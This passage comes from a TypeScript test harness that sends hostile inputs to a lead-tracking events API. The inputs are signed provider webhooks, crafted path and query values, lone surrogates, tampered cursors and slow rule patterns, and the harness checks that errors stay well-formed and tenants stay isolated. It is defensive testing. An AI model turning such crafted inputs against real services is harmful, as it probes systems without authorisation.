        shape = { id: c.slot === 'object-id' ? s : 5_500_000_000_000 + counter, email: at('email', `buyer_${id}@example.com`), financial_status: 'paid', total_price: '1.00', currency: 'USD',
          note: at('free-text', 'gift'), customer: { id: 7_000_000 + counter, first_name: at('name', 'Ana'), email: at('email', `buyer_${id}@example.com`) },
          note_attributes: [{ name: 'lead_id', value: at('lead-hint', 'x') }], line_items: [{ product_id: 1, title: 'Course', ...extra }] };
        break;
      case 'typeform':
        shape = { event_id: c.slot === 'event-id' ? s : `tf_${id}`, event_type: 'form_response', form_response: { token: c.slot === 'object-id' ? s : `tok_${id}`, form_id: 'f', definition: { title: 'Form' },
          hidden: { lead_id: at('lead-hint', undefined), ...extra }, answers: [
            { type: 'email', email: at('email', `buyer_${id}@example.com`), field: { ref: 'email' } },
            { type: 'text', text: at('free-text', 'hello'), field: { ref: 'about' } }, { type: 'short_text', text: at('name', 'Ana'), field: { ref: 'first_name' } },
          ] } };
        break;
      case 'hotmart':
        shape = { id: c.slot === 'event-id' ? s : `hm_${id}`, event: 'PURCHASE_APPROVED', creation_date: Date.now(), data: {
          buyer: { email: at('email', `buyer_${id}@example.com`), name: at('name', 'Ana Silva'), checkout_phone: '5511987654321' },
          purchase: { transaction: c.slot === 'object-id' ? s : `HP${id}`, status: 'APPROVED', price: { value: 49.9, currency_value: 'BRL' } }, product: { id: 1, name: at('free-text', 'Course') }, ...extra,
        } };
        break;
    }
    const body = expandDeep(JSON.stringify(shape));
    const secret = t.secrets[c.provider];
    const hmac = (data: string) => createHmac('sha256', secret).update(data).digest();
    const ts = Math.floor(Date.now() / 1000);
    const headers: Record<string, string> = {
      stripe: { 'stripe-signature': `t=${ts},v1=${hmac(`${ts}.${body}`).toString('hex')}` },
      shopify: { 'x-shopify-hmac-sha256': hmac(body).toString('base64'), 'x-shopify-topic': 'orders/paid', 'x-shopify-shop-domain': 'hostile.myshopify.com', 'x-shopify-api-version': '2025-10', 'x-shopify-webhook-id': randomUUID(), 'x-shopify-event-id': randomUUID() },
      typeform: { 'typeform-signature': `sha256=${hmac(body).toString('base64')}` },
      hotmart: { 'x-hotmart-hottok': secret },
    }[c.provider];
    return { body, headers };
  }
  async function webhookCaseRun(c: Extract<HostileCase, { surface: 'webhook' }>, t: Tenant): Promise<string[]> {
    const { body, headers } = providerBody(c, t);
    const res = await send('POST', `/v1/webhooks/${c.provider}/${t.orgId}`, { body, headers });
    const problem = answerProblem(`POST /v1/webhooks/${c.provider}`, res);
    if (problem) return [problem];
    // A delivery signed with the org's secret is the provider speaking: refused only as malformed, never as unsigned.
    if (res.status === 401) return [`a delivery signed with the org's ${c.provider} secret was refused as unsigned: ${res.text.slice(0, 150)}`];
    // Section 3: what leadlog derives from a delivery is made well-formed first, so a signed delivery is never refused
    // for a lone surrogate.
    if (c.cls === 'surrogate' && res.status >= 400) return [`a signed delivery was refused (${res.status}) for a lone surrogate: ${res.text.slice(0, 200)}`];
    if (res.status === 200 && typeof res.body?.event_id === 'string') {
      t.acknowledged.add(res.body.event_id);
      const problems: string[] = [];
      // A lead id a payload carries is a hint obeying the API's id rule (section 4): never the lead when it breaks it.
      const leadId = res.body.lead_id;
      if (typeof leadId === 'string' && (leadId.length > 255 || !leadId.isWellFormed() || /[\u0000-\u001f\u007f-\u009f]/.test(leadId))) {
        problems.push(`the delivery's lead is an id breaking the id rule (${leadId.length} chars): ${show(leadId, 80)}`);
      }
      return [...problems, ...(await readsBack(t, res.body.event_id, leadId))];
    }
    return [];
  }

  async function pathCaseRun(c: Extract<HostileCase, { surface: 'path' }>, t: Tenant): Promise<string[]> {
    const [method, template] = c.route.split(' ') as [string, string];
    const path = template === '/_files/{path}' ? `/_files/${c.segment}` : fillPath(template, c.segment, t.leadId);
    const body = method === 'POST' || method === 'PUT' ? '{}' : undefined;
    const res = await send(method, path, { key: t.key, ...(body ? { body } : {}) });
    // /_files stands in for S3's presigned downloads: S3's own errors are not problem+json, but never a 5xx either.
    if (template === '/_files/{path}') return res.status === 0 || res.status >= 500 ? [`GET /_files/… answered ${res.status || res.text}`] : [];
    const problem = answerProblem(`${method} ${path.slice(0, 80)}`, res);
    return problem ? [problem] : [];
  }

  async function queryCaseRun(c: Extract<HostileCase, { surface: 'query' }>, t: Tenant): Promise<string[]> {
    const [method, template] = c.route.split(' ') as [string, string];
    const qs = c.query.map(([k, v]) => `${k}=${encodeQueryValue(v)}`).join('&');
    const res = await send(method, `${fillPath(template, t.leadId, 'flow_hostile')}?${qs}`, { key: t.key });
    // A request line over the transport's limit (API Gateway: 10 KB of request line and headers; Node: 16 KB) is
    // refused by the transport itself, before any route: its answer is the transport's, not problem+json.
    if ((res.status === 414 || res.status === 431) && qs.length > 8_000) return [];
    const problem = answerProblem(c.route, res);
    return problem ? [problem] : [];
  }

  async function cursorCaseRun(c: Extract<HostileCase, { surface: 'cursor' }>, t: Tenant): Promise<string[]> {
    const [method, template] = c.route.split(' ') as [string, string];
    const path = fillPath(template, t.leadId, 'flow_hostile');
    let cursor: string;
    if (typeof c.cursor === 'string') cursor = c.cursor;
    else {
      const page = await send(method, `${path}?limit=1`, { key: t.key });
      const real = page.body?.next_cursor;
      if (typeof real !== 'string') return []; // nothing to tamper with on this listing (no second page)
      // Not the last character of a base64 segment: its low bits may be padding that decoding drops, so flipping
      // it could leave the very same cursor.
      let at = c.cursor.tamper % real.length;
      while (at > 0 && (at === real.length - 1 || /[^A-Za-z0-9_-]/.test(real[at + 1]!) || /[^A-Za-z0-9_-]/.test(real[at]!))) at--;
      const flipped = real[at] === 'A' ? 'B' : 'A';
      cursor = real.slice(0, at) + flipped + real.slice(at + 1);
      if (cursor === real) return [];
    }
    const res = await send(method, `${path}?limit=1&cursor=${encodeQueryValue(cursor)}`, { key: t.key });
    const problem = answerProblem(`${c.route} with a crafted cursor`, res);
    if (problem) return [problem];
    if (res.status === 200 && typeof c.cursor !== 'string') return [`a tampered cursor was accepted (200) on ${c.route}`];
    return [];
  }

  async function rangeBodyCaseRun(c: Extract<HostileCase, { surface: 'range-body' }>, t: Tenant): Promise<string[]> {
    const [method, path] = c.route.split(' ') as [string, string];
    const res = await send(method, path, { key: t.key, body: JSON.stringify(c.body) });
    const problem = answerProblem(c.route, res);
    if (problem) return [problem];
    return [];
  }

  async function rulesCaseRun(c: Extract<HostileCase, { surface: 'rules' }>): Promise<string[]> {
    const file = join(rulesDir, `rules-${unique()}.json`);
    writeFileSync(file, JSON.stringify(c.patterns));
    const started = performance.now();
    let rules;
    try {
      rules = loadSubscriberRules(file);
    } catch (error) {
      if (error instanceof SubscriberRulesError) return performance.now() - started > MATCH_LIMIT_MS ? [`refusing the rules file took ${Math.round(performance.now() - started)} ms`] : [];
      return [`loading the rules file threw ${(error as Error).name}: ${(error as Error).message.slice(0, 200)}`];
    }
    const problems: string[] = [];
    for (const rule of rules) {
      for (const subjectDetail of c.subjects) {
        const event = { version: '0', id: 'x', 'detail-type': 'custom.x', source: 'leadlog', account: '0', time: new Date().toISOString(), region: 'local', resources: [], detail: subjectDetail };
        const at = performance.now();
        try {
          matchesPattern(event as never, rule.pattern as EventPattern);
        } catch (error) {
          problems.push(`matching rule ${rule.name} threw ${(error as Error).message.slice(0, 150)}`);
        }
        const ms = performance.now() - at;
        if (ms > MATCH_LIMIT_MS) problems.push(`matching an accepted pattern took ${Math.round(ms)} ms against a ${JSON.stringify(subjectDetail).length}-char event`);
      }
    }
    return problems;
  }

  // ------------------------------------------------------------------------------------------ end-of-round checks

  /** The hostile tenant holds no event that no answer reported (leadlog's own derived records aside). */
  async function unreported(t: Tenant): Promise<string[]> {
    const extra: string[] = [];
    let start: Record<string, unknown> | undefined;
    do {
      const page = await dynamo.send(new ScanCommand({
        TableName: process.env.EVENTS_TABLE_NAME!, FilterExpression: 'begins_with(pk, :org)', ExpressionAttributeValues: { ':org': `${t.orgId}#` },
        ProjectionExpression: 'id, event_type', ExclusiveStartKey: start,
      }));
      for (const item of page.Items ?? []) {
        const type = item.event_type as string;
        if (type.startsWith('lead.') || type === 'webhook.redundant') continue;
        if (!t.acknowledged.has(item.id as string)) extra.push(`${item.id} (${type})`);
      }
      start = page.LastEvaluatedKey;
    } while (start);
    return extra.length > 0 ? [`the hostile tenant holds ${extra.length} event(s) no answer reported, e.g. ${extra.slice(0, 3).join(', ')}`] : [];
  }

  /** An ordinary event of another org, stored after the hostile round, reaches the archive's DuckDB `events`. */
  async function archiveTakesNextOrg(): Promise<string[]> {
    const next = await api.newOrg(['events:write']);
    const res = await send('POST', '/v1/events', { key: next.key, body: JSON.stringify(sampleEvent({ lead_id: 'lead_next_org' })) });
    if (res.status !== 201) return [`the next org's ordinary event answered ${res.status}: ${res.text.slice(0, 200)}`];
    const id = res.body.event.id as string;
    try {
      const drained = await Promise.race([poller.drain().then(() => true), new Promise<boolean>((r) => setTimeout(() => r(false), 120_000))]);
      if (!drained) return ['the stream did not drain within 120 s'];
      await archive.flush();
      const { rows } = await runArchiveSql(archiveDir, 'SELECT count(*)::INTEGER AS n FROM events WHERE org_id = ? AND id = ?', [next.orgId, id]);
      if (Number(rows[0]?.n) !== 1) return [`the next org's ordinary event did not reach the archive's events (found ${String(rows[0]?.n)})`];
      return [];
    } catch (error) {
      return [`the archive failed after the round: ${(error as Error).message.slice(0, 300)}`];
    }
  }
}

/**
 * A worker thread reading `url` every 50 ms with `key`; shared memory holds the longest latency since the last
 * reset, the start of the read in flight (so a read still waiting counts too), failures, and the last 64 latencies.
 */
function startProbe(url: string, key: string) {
  const shared = new Float64Array(new SharedArrayBuffer(8 * (4 + 64)));
  const worker = new Worker(`
    const { workerData } = require('node:worker_threads');
    const s = workerData.shared; let i = 0;
    (async () => {
      for (;;) {
        if (s[3] === 1) return;
        const t = Date.now(); s[1] = t;
        let ok = false;
        try { const r = await fetch(workerData.url, { headers: { authorization: 'Bearer ' + workerData.key } }); await r.arrayBuffer(); ok = r.status === 200; } catch {}
        const ms = Date.now() - t; s[1] = 0;
        if (!ok) s[2]++;
        if (ms > s[0]) s[0] = ms;
        s[4 + (i++ % 64)] = ms;
        await new Promise((r) => setTimeout(r, 50));
      }
    })();`, { eval: true, workerData: { url, key, shared } });
  return {
    reset() { shared[0] = 0; shared[2] = 0; },
    read() {
      const inFlight = shared[1] ? Date.now() - shared[1] : 0;
      return { maxMs: Math.max(shared[0]!, inFlight), failures: shared[2]! };
    },
    median() {
      const seen = [...shared.slice(4)].filter((ms) => ms > 0).sort((a, b) => a - b);
      return seen[Math.floor(seen.length / 2)] ?? 0;
    },
    async stop() { shared[3] = 1; await worker.terminate(); },
  };
}

/** A query value percent-encoded as a client would, lone surrogates as the bytes a careless encoder produces. */
function encodeQueryValue(value: string): string {
  let out = '';
  for (const ch of value) {
    const code = ch.codePointAt(0)!;
    if (code >= 0xd800 && code <= 0xdfff) out += `%${(0xe0 | (code >> 12)).toString(16).toUpperCase()}%${(0x80 | ((code >> 6) & 0x3f)).toString(16).toUpperCase()}%${(0x80 | (code & 0x3f)).toString(16).toUpperCase()}`;
    else out += encodeURIComponent(ch);
  }
  return out;
}
